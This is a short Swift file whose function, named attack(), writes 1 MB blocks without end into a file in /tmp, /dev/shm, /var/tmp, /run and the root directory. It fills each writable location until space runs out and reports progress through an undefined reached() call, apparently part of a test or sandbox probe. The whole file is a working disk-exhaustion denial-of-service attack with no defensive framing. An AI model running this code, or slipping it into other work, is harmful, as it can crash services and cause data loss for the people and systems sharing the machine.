// Fills every writable place.
import Foundation

func attack() -> String {
  let block = [UInt8](repeating: 1, count: 1 << 20)
  for folder in ["/tmp", "/dev/shm", "/var/tmp", "/run", "/"] {
    let file = open("\(folder)/fill", O_CREAT | O_WRONLY, 0o600)
    guard file >= 0 else { continue }
    var written = 0
    while write(file, block, block.count) > 0 { written += 1 }
    reached("\(written) MB in \(folder)")
  }
  return "?"
}
